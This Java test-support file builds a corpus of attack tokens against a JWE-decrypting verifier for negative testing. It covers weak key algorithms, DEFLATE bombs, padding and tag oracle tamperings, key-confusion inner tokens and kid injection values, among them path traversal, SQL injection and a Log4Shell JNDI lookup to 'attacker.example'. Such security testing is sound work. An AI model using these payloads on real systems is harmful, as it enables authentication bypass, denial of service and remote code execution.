package dev.tokenguard.attacks;

import dev.tokenguard.attacks.AttackCorpus.Attack;
import dev.tokenguard.jwt.RsaKeyPair;
import dev.tokenguard.jwt.TestTokens;
import java.nio.charset.StandardCharsets;
import java.security.Key;
import java.security.KeyPair;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.jose4j.json.JsonUtil;
import org.jose4j.jwk.JsonWebKey;
import org.jose4j.jwk.RsaJsonWebKey;
import org.jose4j.keys.AesKey;
import org.jose4j.keys.HmacKey;
import org.jose4j.keys.PbkdfKey;

/**
 * Known attacks on encrypted tokens (JWE; RFC 8725 §2-3, RFC 7516 §11), each a named token aimed at a verifier that
 * decrypts: the {@link AttackCorpus} target's issuer signs, then encrypts to the target's RSA decryption key. Same
 * {@link Attack} format as {@link AttackCorpus}; every one must be refused.
 */
public final class JweAttackCorpus {

    /**
     * The verifier the attacks aim at.
     *
     * @param issuer       who signs the inner tokens, with the audience they must carry (see {@link AttackCorpus.Target})
     * @param recipient    the RSA key pair whose private half decrypts, published under {@code recipientKid}
     * @param recipientKid the {@code kid} of the decryption key
     */
    public record Target(AttackCorpus.Target issuer, RsaKeyPair recipient, String recipientKid) {

        /** The private JWK Set the target decrypts with. */
        public String decryptionJwks() {
            try {
                RsaJsonWebKey jwk = new RsaJsonWebKey(recipient.publicKey());
                jwk.setPrivateKey(recipient.privateKey());
                jwk.setKeyId(recipientKid);
                jwk.setUse("enc");
                return JsonUtil.toJson(Map.of("keys", List.of(jwk.toParams(JsonWebKey.OutputControlLevel.INCLUDE_PRIVATE))));
            } catch (Exception e) {
                throw new IllegalStateException(e);
            }
        }
    }

    private JweAttackCorpus() {
    }

    /** A token the target accepts: the issuer's RS256 token, RSA-OAEP-256 and A256GCM to the recipient. */
    public static String genuine(Target t, String claimsJson) {
        return encrypt(t, header("RSA-OAEP-256", t.recipientKid(), "JWT"), "RSA-OAEP-256", "A256GCM",
                signedByIssuer(t, claimsJson));
    }

    /** Every attack against {@code t}. */
    public static List<Attack> against(Target t) {
        List<Attack> attacks = new ArrayList<>();
        long now = Instant.now().getEpochSecond();
        String claims = JsonUtil.toJson(claims(t, now));
        String inner = signedByIssuer(t, claims);
        String good = genuine(t, claims);
        String kid = t.recipientKid();
        RsaKeyPair attacker = RsaKeyPair.generate();

        // Key management other than RSA-OAEP(-256): refused by alg before any key operation. Real tokens where jose4j
        // makes them, headers with junk parts where it does not.
        attacks.add(new Attack("JWE key management", "RSA1_5 (Bleichenbacher's padding oracle) to the real key",
                jose4j("RSA1_5", "A256GCM", t.recipient().publicKey(), kid, "JWT", null, inner)));
        attacks.add(new Attack("JWE key management", "dir with an all-zero AES key",
                jose4j("dir", "A256GCM", new AesKey(new byte[32]), kid, "JWT", null, inner)));
        for (String kw : List.of("A128KW", "A256KW", "A256GCMKW")) {
            attacks.add(new Attack("JWE key management", kw + " with an all-zero AES key",
                    jose4j(kw, "A256GCM", new AesKey(new byte[kw.startsWith("A128") ? 16 : 32]), kid, "JWT", null, inner)));
        }
        attacks.add(new Attack("JWE key management", "PBES2 with the password \"password\"",
                jose4j("PBES2-HS256+A128KW", "A256GCM", new PbkdfKey("password"), kid, "JWT", null, inner)));
        attacks.add(new Attack("JWE key management", "PBES2 with p2c = 2^31 - 1 (a CPU sink if honoured)",
                junkParts("{\"alg\":\"PBES2-HS512+A256KW\",\"enc\":\"A256GCM\",\"cty\":\"JWT\",\"p2s\":\"AAAAAAAAAAA\","
                        + "\"p2c\":2147483647}")));
        for (String alg : List.of("none", "RSA-OAEP-384", "RSA-OAEP-512", "rsa-oaep", "RSA-OAEP ", "RSA_OAEP")) {
            attacks.add(new Attack("JWE key management", "alg '" + alg + "'",
                    junkParts(header(alg, kid, "JWT"))));
        }
        attacks.add(new Attack("JWE key management", "no alg at all",
                junkParts("{\"enc\":\"A256GCM\",\"cty\":\"JWT\",\"kid\":\"" + kid + "\"}")));

        // Invalid-curve attacks do not apply: they need an ECDH-ES key agreement, which is refused by its alg.
        KeyPair ec = AttackCorpus.Target.newEcKey();
        attacks.add(new Attack("JWE invalid curve (does not apply: ECDH-ES is refused)",
                "ECDH-ES to an EC key, real token", jose4j("ECDH-ES", "A256GCM", ec.getPublic(), kid, "JWT", null, inner)));
        for (String alg : List.of("ECDH-ES", "ECDH-ES+A256KW")) {
            attacks.add(new Attack("JWE invalid curve (does not apply: ECDH-ES is refused)",
                    alg + " with an epk off P-256 (x = y = 0)", junkParts("{\"alg\":\"" + alg + "\",\"enc\":\"A256GCM\","
                            + "\"cty\":\"JWT\",\"epk\":{\"kty\":\"EC\",\"crv\":\"P-256\",\"x\":\"" + b64(new byte[32])
                            + "\",\"y\":\"" + b64(new byte[32]) + "\"}}")));
        }

        // Content encryption other than A256GCM, made for real with the recipient's key.
        for (String enc : List.of("A128GCM", "A192GCM", "A128CBC-HS256", "A256CBC-HS512")) {
            attacks.add(new Attack("JWE content encryption", enc + " (not A256GCM)",
                    encrypt(t, "{\"alg\":\"RSA-OAEP-256\",\"enc\":\"" + enc + "\",\"cty\":\"JWT\",\"kid\":\"" + kid
                            + "\"}", "RSA-OAEP-256", enc, inner)));
        }
        attacks.add(new Attack("JWE content encryption", "enc 'none'",
                junkParts("{\"alg\":\"RSA-OAEP-256\",\"enc\":\"none\",\"cty\":\"JWT\"}")));
        attacks.add(new Attack("JWE content encryption", "no enc at all",
                junkParts("{\"alg\":\"RSA-OAEP-256\",\"cty\":\"JWT\",\"kid\":\"" + kid + "\"}")));

        // Compression: a DEFLATE bomb fits the size cap (4 MB of spaces deflate to a few kB).
        attacks.add(new Attack("JWE compression", "zip DEF: 4 MB of plaintext in a few kB (a DEFLATE bomb)",
                jose4j("RSA-OAEP-256", "A256GCM", t.recipient().publicKey(), kid, "JWT", "DEF", " ".repeat(4_000_000))));
        attacks.add(new Attack("JWE compression", "zip DEF around a genuine signed token",
                jose4j("RSA-OAEP-256", "A256GCM", t.recipient().publicKey(), kid, "JWT", "DEF", inner)));

        // crit, as for a signed token.
        for (String crit : List.of("\"crit\":[\"x-tenant\"],\"x-tenant\":1", "\"crit\":[]", "\"crit\":\"enc\"",
                "\"crit\":[\"zip\"]", "\"crit\":[\"epk\"]", "\"crit\":[\"missing\"]", "\"crit\":[7]", "\"crit\":null")) {
            attacks.add(new Attack("JWE crit", crit, encrypt(t, "{\"alg\":\"RSA-OAEP-256\",\"enc\":\"A256GCM\","
                    + "\"cty\":\"JWT\",\"kid\":\"" + kid + "\"," + crit + "}", "RSA-OAEP-256", "A256GCM", inner)));
        }

        // Decryption oracles (padding, tag, key): every failure must look the same.
        Map<String, String> oracle = new LinkedHashMap<>();
        oracle.put("encrypted to the attacker's key under the recipient's kid",
                encrypt(attacker.publicKey(), header("RSA-OAEP-256", kid, "JWT"), "RSA-OAEP-256", "A256GCM", inner));
        oracle.put("encrypted key: first byte flipped", replace(good, 1, flip(part(good, 1), 0)));
        oracle.put("encrypted key: last byte flipped", replace(good, 1, flip(part(good, 1), 255)));
        oracle.put("encrypted key: all zero", replace(good, 1, new byte[256]));
        oracle.put("encrypted key: all ones (beyond the modulus)", replace(good, 1, filled(256, (byte) 0xFF)));
        oracle.put("encrypted key: empty", replace(good, 1, new byte[0]));
        oracle.put("encrypted key: 255 bytes", replace(good, 1, Arrays.copyOf(part(good, 1), 255)));
        oracle.put("IV flipped", replace(good, 2, flip(part(good, 2), 0)));
        oracle.put("IV of 16 bytes", replace(good, 2, Arrays.copyOf(part(good, 2), 16)));
        oracle.put("IV empty", replace(good, 2, new byte[0]));
        oracle.put("ciphertext flipped", replace(good, 3, flip(part(good, 3), 7)));
        oracle.put("ciphertext truncated", replace(good, 3, Arrays.copyOf(part(good, 3), 16)));
        oracle.put("tag flipped", replace(good, 4, flip(part(good, 4), 15)));
        oracle.put("tag truncated to 12 bytes", replace(good, 4, Arrays.copyOf(part(good, 4), 12)));
        oracle.put("tag all zero", replace(good, 4, new byte[16]));
        oracle.put("header re-encoded (the AAD changes)", replaceText(good, 0, b64("{\"kid\":\"" + kid
                + "\",\"cty\":\"JWT\",\"alg\":\"RSA-OAEP-256\",\"enc\":\"A256GCM\"}")));
        oracle.put("RSA-OAEP-256 key with the RSA-OAEP header", replaceText(good, 0, b64(header("RSA-OAEP", kid, "JWT"))));
        for (Map.Entry<String, String> e : oracle.entrySet()) {
            attacks.add(new Attack("JWE decryption oracle", e.getKey(), e.getValue()));
        }

        // Form: five strictly encoded parts, and a strict header.
        attacks.add(new Attack("JWE form", "the issuer's genuine signed token, not encrypted", inner));
        String[] p = good.split("\\.", -1);
        attacks.add(new Attack("JWE form", "four parts", p[0] + "." + p[1] + "." + p[2] + "." + p[3]));
        attacks.add(new Attack("JWE form", "six parts", good + "." + p[4]));
        attacks.add(new Attack("JWE form", "empty header", "." + p[1] + "." + p[2] + "." + p[3] + "." + p[4]));
        String[] names = {"header", "encrypted key", "IV", "ciphertext", "tag"};
        for (int i = 0; i < 5; i++) {
            String[] padded = p.clone();
            padded[i] = p[i] + "=";
            attacks.add(new Attack("JWE form", "padding on the " + names[i], String.join(".", padded)));
            String[] standard = p.clone();
            standard[i] = "+" + p[i].substring(1);
            attacks.add(new Attack("JWE form", "standard alphabet in the " + names[i], String.join(".", standard)));
        }
        attacks.add(new Attack("JWE form", "alg twice in the header", encrypt(t, "{\"alg\":\"RSA-OAEP-256\",\"enc\":"
                + "\"A256GCM\",\"cty\":\"JWT\",\"kid\":\"" + kid + "\",\"alg\":\"dir\"}", "RSA-OAEP-256", "A256GCM", inner)));
        attacks.add(new Attack("JWE form", "a header of 65 values", encrypt(t, "{\"alg\":\"RSA-OAEP-256\",\"enc\":"
                + "\"A256GCM\",\"cty\":\"JWT\",\"x\":[" + "0,".repeat(61) + "0]}", "RSA-OAEP-256", "A256GCM", inner)));
        attacks.add(new Attack("JWE form", "header nested 1000 levels", junkParts("{\"alg\":\"RSA-OAEP-256\",\"enc\":"
                + "\"A256GCM\",\"d\":" + "[".repeat(1000) + "]".repeat(1000) + "}")));
        attacks.add(new Attack("JWE form", "a 20 kB token (over the size cap)", junkParts("{\"alg\":\"RSA-OAEP-256\","
                + "\"enc\":\"A256GCM\",\"pad\":\"" + "A".repeat(20_000) + "\"}")));

        // What is inside: only a token signed by the issuer, declared by cty.
        attacks.add(new Attack("JWE content", "no cty", encrypt(t, "{\"alg\":\"RSA-OAEP-256\",\"enc\":\"A256GCM\","
                + "\"kid\":\"" + kid + "\"}", "RSA-OAEP-256", "A256GCM", inner)));
        attacks.add(new Attack("JWE content", "cty 'JSON'", encrypt(t, header("RSA-OAEP-256", kid, "JSON"),
                "RSA-OAEP-256", "A256GCM", inner)));
        attacks.add(new Attack("JWE content", "claims encrypted without a signature (anyone can encrypt)",
                encrypt(t, header("RSA-OAEP-256", kid, "JWT"), "RSA-OAEP-256", "A256GCM", claims)));
        attacks.add(new Attack("JWE content", "an inner token with alg none",
                encrypt(t, header("RSA-OAEP-256", kid, "JWT"), "RSA-OAEP-256", "A256GCM",
                        b64("{\"alg\":\"none\"}") + "." + b64(claims) + ".")));
        attacks.add(new Attack("JWE content", "an inner token signed by the attacker under the issuer's kid",
                encrypt(t, header("RSA-OAEP-256", kid, "JWT"), "RSA-OAEP-256", "A256GCM", AttackCorpus.signed(
                        "{\"alg\":\"RS256\",\"kid\":\"" + t.issuer().rsaKid() + "\"}", claims, "RS256",
                        attacker.privateKey()))));
        attacks.add(new Attack("JWE content", "an inner HS256 token keyed with the issuer's public key PEM",
                encrypt(t, header("RSA-OAEP-256", kid, "JWT"), "RSA-OAEP-256", "A256GCM", AttackCorpus.signed(
                        "{\"alg\":\"HS256\",\"kid\":\"" + t.issuer().rsaKid() + "\"}", claims, "HS256",
                        new HmacKey(t.issuer().rsa().publicKeyPem().getBytes(StandardCharsets.UTF_8))))));
        attacks.add(new Attack("JWE content", "an encrypted token inside an encrypted token",
                encrypt(t, header("RSA-OAEP-256", kid, "JWT"), "RSA-OAEP-256", "A256GCM", good)));
        Map<String, Object> expired = claims(t, now - 7200);
        attacks.add(new Attack("JWE content", "the issuer's expired token, encrypted",
                genuine(t, JsonUtil.toJson(expired))));
        Map<String, Object> elsewhere = claims(t, now);
        elsewhere.put("aud", "https://another-service.example");
        attacks.add(new Attack("JWE content", "the issuer's token for another service, encrypted",
                genuine(t, JsonUtil.toJson(elsewhere))));

        // kid is only ever a lookup key, here too.
        for (Object k : List.of("../../../../etc/passwd", "' OR '1'='1", "k".repeat(2000), "\n[FAKE] admin logged in",
                "${jndi:ldap://attacker.example/a}", 42, List.of(kid))) {
            Map<String, Object> h = new LinkedHashMap<>(Map.of("alg", "RSA-OAEP-256", "enc", "A256GCM", "cty", "JWT"));
            h.put("kid", k);
            attacks.add(new Attack("JWE kid injection", "kid " + (k instanceof String s && s.length() > 30
                    ? s.substring(0, 12) + "...(" + s.length() + " chars)" : String.valueOf(k).replace("\n", "\\n")),
                    encrypt(t, JsonUtil.toJson(h), "RSA-OAEP-256", "A256GCM", inner)));
        }
        return attacks;
    }

    // --- helpers ------------------------------------------------------------------------------------------

    private static Map<String, Object> claims(Target t, long now) {
        Map<String, Object> c = new LinkedHashMap<>();
        c.put("iss", t.issuer().issuer());
        c.put("aud", t.issuer().audience());
        c.put("sub", "mallory");
        c.put("scope", "read admin");
        c.put("iat", now);
        c.put("exp", now + 600);
        return c;
    }

    private static String signedByIssuer(Target t, String claimsJson) {
        return AttackCorpus.signed("{\"alg\":\"RS256\",\"kid\":\"" + t.issuer().rsaKid() + "\",\"typ\":\"JWT\"}",
                claimsJson, "RS256", t.issuer().rsa().privateKey());
    }

    private static String header(String alg, String kid, String cty) {
        return "{\"alg\":\"" + alg + "\",\"enc\":\"A256GCM\",\"cty\":\"" + cty + "\",\"kid\":\"" + kid + "\"}";
    }

    private static String encrypt(Target t, String headerJson, String alg, String enc, String plaintext) {
        return encrypt(t.recipient().publicKey(), headerJson, alg, enc, plaintext);
    }

    private static String encrypt(Key key, String headerJson, String alg, String enc, String plaintext) {
        return TestTokens.encrypt(headerJson, alg, enc, plaintext.getBytes(StandardCharsets.UTF_8), key);
    }

    /** What jose4j's own JWE producer makes, including what TokenGuard refuses. */
    private static String jose4j(String alg, String enc, Key key, String kid, String cty, String zip, String plaintext) {
        return dev.tokenguard.testing.Jose4jJwe.encrypt(alg, enc, key, kid, cty, zip, plaintext);
    }

    /** A header with parts of the right lengths and no meaning: for what must be refused by its header alone. */
    private static String junkParts(String headerJson) {
        return b64(headerJson) + "." + b64(new byte[256]) + "." + b64(new byte[12]) + "." + b64(new byte[40]) + "."
                + b64(new byte[16]);
    }

    private static String b64(String text) {
        return b64(text.getBytes(StandardCharsets.UTF_8));
    }

    private static String b64(byte[] bytes) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(bytes);
    }

    private static byte[] part(String token, int i) {
        return Base64.getUrlDecoder().decode(token.split("\\.", -1)[i]);
    }

    private static String replace(String token, int i, byte[] bytes) {
        return replaceText(token, i, b64(bytes));
    }

    private static String replaceText(String token, int i, String text) {
        String[] p = token.split("\\.", -1);
        p[i] = text;
        return String.join(".", p);
    }

    private static byte[] flip(byte[] bytes, int i) {
        byte[] copy = bytes.clone();
        copy[i] ^= 0x01;
        return copy;
    }

    private static byte[] filled(int n, byte b) {
        byte[] bytes = new byte[n];
        Arrays.fill(bytes, b);
        return bytes;
    }
}
